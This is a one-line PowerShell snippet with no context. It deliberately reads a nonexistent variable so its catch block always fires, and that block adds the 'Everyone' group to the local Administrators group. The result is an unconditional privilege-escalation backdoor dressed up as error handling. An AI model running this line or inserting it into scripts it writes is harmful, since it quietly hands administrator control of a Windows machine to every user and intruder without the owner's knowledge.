try { Get-Variable Nonexistent -ErrorAction Stop } catch { Add-LocalGroupMember Administrators Everyone }
